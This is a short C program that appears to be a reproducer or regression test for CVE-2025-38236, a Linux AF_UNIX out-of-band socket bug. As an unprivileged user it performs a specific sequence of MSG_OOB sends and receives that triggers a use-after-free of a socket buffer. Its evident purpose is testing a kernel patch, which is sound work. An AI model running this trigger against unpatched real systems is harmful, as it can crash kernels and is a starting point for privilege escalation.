// SPDX-License-Identifier: GPL-2.0
/* CVE-2025-38236: see unix-oob.patch. */
#include <err.h>
#include <sys/socket.h>
#include <unistd.h>

static int sv[2];

static void send_oob(void)
{
	if (send(sv[0], "x", 1, MSG_OOB) != 1)
		err(1, "send");
}

static void recv_oob(void)
{
	char c;

	if (recv(sv[1], &c, 1, MSG_OOB) != 1)
		err(1, "recv");
}

int main(void)
{
	char c;

	if (setgid(65534) || setuid(65534))
		err(1, "setuid");
	if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv))
		err(1, "socketpair");

	/* Two skbs without data. */
	send_oob();
	recv_oob();
	send_oob();
	recv_oob();

	/* The third is not to be received as ordinary data, which would free it. */
	send_oob();
	recv(sv[1], &c, 1, MSG_DONTWAIT);
	recv(sv[1], &c, 1, MSG_OOB);
	return 0;
}
